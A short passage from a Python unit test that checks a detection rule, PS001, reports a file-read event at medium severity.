        f for f in evaluate(obs([ev(EventKind.FILE_READ, "openat", path=path)])) if f.rule_id == "PS001"
    ]
    assert at_import[0].severity is Severity.MEDIUM
